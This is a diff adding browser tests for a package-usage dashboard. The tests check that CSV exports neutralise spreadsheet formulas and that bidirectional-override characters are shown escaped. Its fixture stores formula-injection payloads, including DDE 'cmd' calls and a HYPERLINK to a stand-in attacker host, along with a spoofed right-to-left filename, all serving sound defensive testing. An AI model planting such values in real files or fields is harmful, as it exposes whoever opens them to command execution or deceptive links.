@@ -305,3 +305,101 @@ def test_recorder_processes_really_ran(fed):
     shows are those the venv's own metadata reports."""
     _, answer, _ = fed.serve.get("/api/v1/libraries/requests?since=6h", token=TOKEN)
     assert answer["versions"] == [{"version": fed.versions["requests"], "processes": 3}]
+
+
+# -- hostile stored text: CSV formulas, spoofing characters -----------------------------------
+
+#: What senders may put in an environment label and in versions (see tests/faces/test_csv.py).
+ENV_CMD = "=cmd|' /C calc'!A0"
+ENV_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+VERSION_LINK = '=HYPERLINK("http://evil.example/?x","click")'
+VERSION_MINUS = "-1+1"
+INVENTORY_VERSION = "+1+cmd"
+#: What old data may hold (the decoder now refuses it): a right-to-left override, a C1 control.
+SPOOFED_ENV = "img:\u202eexe.gnp\x9b"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory):
+    """``popcon serve`` over a database of formulas and spoofing characters (no recorder:
+    these never come from a real one)."""
+    import sqlite3
+
+    from collectors import store_datagrams
+    from datagrams import inventory_datagrams, use_datagram
+    from timing import HOUR, NOW
+
+    db = tmp_path_factory.mktemp("hostile") / "popcon.sqlite"
+    at = NOW - HOUR
+    labels = [("hub", VERSION_MINUS)]
+    timed = [(at, use_datagram(ENV_CMD, [("numpy", VERSION_LINK, "direct", "env")], labels=labels))]
+    timed *= 2
+    timed += [(at, use_datagram(ENV_AT, [("scipy", VERSION_MINUS, "direct", "user")]))]
+    timed += [(at, use_datagram("img:spoof", [("numpy", "2.1.0", "direct", "env")]))]
+    timed += [(at, d) for d in inventory_datagrams(ENV_CMD, [("six", INVENTORY_VERSION)])]
+    store_datagrams(db, timed)
+    conn = sqlite3.connect(db)
+    conn.execute("UPDATE envs SET name = ? WHERE name = 'img:spoof'", (SPOOFED_ENV,))
+    conn.commit()
+    conn.close()
+    serve = ServeProcess(db, "--min-count", "1", env={"POPCON_API_TOKEN": TOKEN})
+    try:
+        yield Fed(serve, serve.http_url, {})
+    finally:
+        serve.stop()
+
+
+def downloaded_csv(page) -> list:
+    with page.expect_download() as download:
+        page.click("#csv")
+    return list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
+
+
+def assert_no_formula(rows: list) -> None:
+    for row in rows:
+        for value in row:
+            assert not value.startswith(FORMULA_STARTS), value
+
+
+def test_csv_downloads_neutralise_formulas(page, hostile):
+    open_page(page, hostile, token=TOKEN)
+    page.wait_for_selector('main[data-loaded="libraries"]')
+    page.wait_for_function(
+        """() => [...document.querySelectorAll('td[data-versions]')]
+                .every(td => td.textContent !== '…')"""
+    )
+    rows = downloaded_csv(page)
+    assert_no_formula(rows)
+    by_name = {row[0]: row for row in rows[1:]}
+    assert by_name["numpy"][1] == "3"  # a count stays a number
+    assert by_name["numpy"][5].startswith("'" + VERSION_LINK + " (2)")
+    assert by_name["scipy"][5] == "'" + VERSION_MINUS + " (1)"
+
+    views = {
+        "unused": {"'" + ENV_CMD, "'" + INVENTORY_VERSION},
+        "user-installed": {"'" + ENV_AT, "'" + VERSION_MINUS + " (1)"},
+        "environments": {"'" + ENV_CMD, "'" + ENV_AT, "hub=" + VERSION_MINUS},
+    }
+    for view, expected in views.items():
+        open_page(page, hostile, view)
+        page.wait_for_selector(f'main[data-loaded="{view}"]')
+        rows = downloaded_csv(page)
+        assert_no_formula(rows)
+        assert expected <= {value for row in rows for value in row}, view
+    assert not page.errors, page.errors
+
+
+def test_spoofing_characters_are_shown_escaped(page, hostile):
+    open_page(page, hostile, "environments", token=TOKEN)
+    page.wait_for_selector('main[data-loaded="environments"]')
+    text = page.inner_text("main table")
+    assert "img:\\u202eexe.gnp\\u009b" in text
+    assert "\u202e" not in text and "\x9b" not in text
+    options = page.eval_on_selector_all(
+        "#env option", "options => options.map(o => [o.value, o.textContent])"
+    )
+    assert [SPOOFED_ENV, "img:\\u202eexe.gnp\\u009b"] in options  # the value is the data
+    assert ENV_CMD in text  # text that is no control stays as it is
+    shoot(page, "environments-spoofed")
+    assert not page.errors, page.errors
